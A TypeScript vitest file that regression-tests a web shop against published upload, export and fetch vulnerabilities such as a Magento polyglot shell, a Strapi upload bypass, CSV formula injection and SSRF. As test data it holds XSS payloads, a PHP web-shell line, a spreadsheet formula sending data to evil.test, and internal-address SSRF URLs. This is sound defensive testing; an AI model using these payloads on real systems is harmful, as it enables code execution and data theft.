// Weaknesses reported in other shops and their libraries with uploaded, exported or fetched files, tried
// here. Each test is named after the report and says what must not happen.

import { readdir } from 'node:fs/promises';
import { createServer } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { uploads } from '#features/image/upload.table.ts';
import { makeProduct } from '../factories.ts';
import { useAdmin } from '../staff.ts';
import { POLYGLOTS } from '../hostile-images.ts';
import { until } from '../mail.ts';
import { makeOneShopper } from '../many-shoppers.ts';
import { useTestShop } from '../open-test-shop.ts';
import { exportFile, importFile, toCsv, useDataDir } from '../product-files.ts';
import { makeOwner } from '../products.ts';
import { listFileNames, noisyImage, plainImage, sendAvatar, sendImage, toForm } from '../uploads.ts';

const dataDir = useDataDir();
const shop = useTestShop({ DATA_DIR: dataDir });
const staff = useAdmin(shop);

const countUploads = async () => (await shop.db.select().from(uploads)).length;

it('CVE-2026-22707 Strapi: what one way of uploading refuses, the other refuses too', async () => {
  const person = await makeOneShopper(shop);
  const hostile = [
    ['x.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['x.png', 'image/png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['x.jpg', 'image/jpeg', '<!doctype html><script>alert(1)</script>'],
    ['x.html', 'text/html', '<script>alert(1)</script>'],
    ['x.php.gif', 'image/gif', 'GIF89a<?php system($_GET[0]); ?>'],
    ['x.png', 'image/png', '\x89PNG\r\n\x1a\n<html>'],
  ] as const;
  const before = await countUploads();
  for (const [name, type, bytes] of hostile) {
    const file = { name, type, bytes: Buffer.from(bytes, 'latin1') };
    expect((await sendAvatar(shop, { avatar: file }, person)).status, `${name} as photo`).toBe(415);
    expect((await sendImage(shop, { image: file }, staff)).status, `${name} for a product`).toBe(415);
  }
  expect(await countUploads()).toBe(before);
  // Only the bytes decide: a real picture with the worst of names is accepted as a picture.
  const bytes = await plainImage(90, 60).png().toBuffer();
  const file = { name: '../../x.php', type: 'text/html', bytes };
  const answer = await sendImage(shop, { image: file }, staff);
  expect(answer.status).toBe(200);
  const sent = await shop.app.inject(answer.body.data.url);
  expect(sent.headers['content-type']).toBe('image/webp');
});

it('APSB26-05 Magento, PolyShell: of a picture that is a program as well only the picture is left', async () => {
  const person = await makeOneShopper(shop);
  const [, make] = POLYGLOTS[0]!;
  const file = { name: 'shell.php', type: 'application/x-php', bytes: await make() };
  const answer = await sendAvatar(shop, { avatar: file }, person);
  expect(answer.body.data.avatar).toMatch(/^\/images\/u-[0-9a-f]{40}\/800\.webp$/);
  const sent = await shop.app.inject(answer.body.data.avatar);
  expect(sent.headers).toMatchObject({ 'content-type': 'image/webp', 'x-content-type-options': 'nosniff' });
  expect(sent.rawPayload.toString('latin1')).not.toMatch(/alert|SECRET|GIF89a/);
  expect((await listFileNames(dataDir)).filter((name) => /php|shell/.test(name))).toEqual([]);
});

it('CVE-2025-24033 @fastify/multipart: an upload that is cancelled leaves no file behind', async () => {
  await shop.app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = shop.app.server.address() as AddressInfo;
  const { token } = await makeOneShopper(shop);
  const form = await toForm({ avatar: { bytes: await noisyImage(900, 900).png().toBuffer() } });
  const body = form.body as Buffer;
  const count = async () => [await listFileNames(dataDir), await countUploads()];
  const [before, inTmp] = [await count(), new Set(await readdir(tmpdir()))];
  for (let times = 0; times < 3; times++) {
    const socket = connect(port, '127.0.0.1');
    const head = [
      'PUT /api/user/upload-avatar HTTP/1.1',
      'host: shop.test',
      `authorization: Bearer ${token}`,
      `content-type: ${form.headers!['content-type']}`,
      `content-length: ${body.length}`,
    ];
    socket.write(`${head.join('\r\n')}\r\n\r\n`);
    await new Promise<void>((resolve) => socket.write(body.subarray(0, body.length / 2), () => resolve()));
    socket.resetAndDestroy();
  }
  const connections = () =>
    new Promise<number>((resolve) => shop.app.server.getConnections((_error, open) => resolve(open)));
  await until(async () => (await connections()) === 0, 'the connections to end');
  expect(await count()).toEqual(before);
  const left = (await readdir(tmpdir())).filter(
    (name) => !inTmp.has(name) && /upload|multipart|\.png$/.test(name),
  );
  expect(left).toEqual([]);
});

it('thirtybees/thirtybees#1670: no cell of an export is run by a spreadsheet, or breaks out of its column', async () => {
  const formulas = [
    `=cmd|'/C calc'!A0`,
    '=HYPERLINK("https://evil.test?x="&A1,"ok")',
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    ' =1+1',
    '＝1+1',
    '"x";=1+1',
    'a","=1+1',
    "'=1+1",
  ];
  for (const name of formulas) await makeProduct(shop, { name, description: name, unit: name.slice(0, 20) });
  const file = await exportFile(shop, staff.token);
  const rows = parse(file.replace(/^\uFEFF/, '')) as string[][];
  expect(rows.length).toBeGreaterThan(formulas.length);
  const width = rows[0]!.length;
  for (const row of rows) {
    expect(row).toHaveLength(width);
    // Only negative numbers may begin with such a character.
    for (const cell of row) {
      expect(/^\s*[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.]+$/.test(cell), cell).toBe(false);
    }
  }
  // Importing the file restores the original values.
  expect(await importFile(shop, staff.token, file, { dryRun: true })).toMatchObject({ status: 'done' });
});

it('ekofyi.com on Shopware’s external links: the shop never fetches an address somebody gives it', async () => {
  const asked: string[] = [];
  const inside = createServer((request, response) => {
    asked.push(request.url!);
    response.end('secret');
  });
  await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
  const { port } = inside.address() as AddressInfo;
  const addresses = ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]'].map(
    (host) => `http://${host}:${port}/meta-data/photo.png`,
  );
  const owner = await makeOwner(shop);
  const person = await makeOneShopper(shop);
  try {
    for (const url of addresses) {
      const json = {
        headers: { 'content-type': 'application/json' },
        body: { image: url, avatar: url, url },
      };
      await owner.createProduct({ name: `Made of ${url}`, image: [url] });
      await shop.call('POST', '/api/file/upload', { token: staff.token, ...json });
      await shop.call('PUT', '/api/user/upload-avatar', { token: person.token, ...json });
      await sendImage(shop, { image: url, url }, staff);
      await sendAvatar(shop, { avatar: url, url }, person);
      await shop.call('GET', `/images/${encodeURIComponent(url)}/800.webp`);
      await shop.call('GET', `/images/demo/800.webp?url=${encodeURIComponent(url)}`);
    }
    const rows = addresses.map((url) => [`Imported from ${url}`, url, '1 kg', 1, 10, 'x']);
    const file = toCsv(['name', 'images', 'unit', 'stock', 'price', 'description'], ...rows);
    expect(await importFile(shop, staff.token, file)).toMatchObject({ status: 'done' });
    for (const path of ['/', '/search?q=imported', '/search?q=made']) {
      expect((await shop.app.inject(path)).statusCode).toBe(200);
    }
    expect(asked).toEqual([]);
    // Shows that the server was reachable.
    await fetch(addresses[0]!);
    expect(asked).toHaveLength(1);
  } finally {
    inside.close();
  }
});

it('CVE-2025-13930 WooCommerce Checkout Manager: nobody deletes files by naming them', async () => {
  const bytes = await plainImage(60, 60, 'tomato').png().toBuffer();
  const { url } = (await sendImage(shop, { image: { bytes } }, staff)).body.data;
  const { token } = await makeOneShopper(shop);
  for (const who of [{}, { token }, { token: staff.token }]) {
    for (const path of [url, `/api/file/${url}`, `/api/file/delete?url=${url}`, '/api/file/upload']) {
      const answer = await shop.call('DELETE', path, { ...who, body: { url, attachment_id: url } });
      expect([404, 405]).toContain(answer.status);
    }
    const remove = await shop.call('POST', '/api/file/delete', { ...who, body: { url } });
    expect(remove.status).toBe(404);
  }
  expect((await shop.app.inject(url)).statusCode).toBe(200);
});
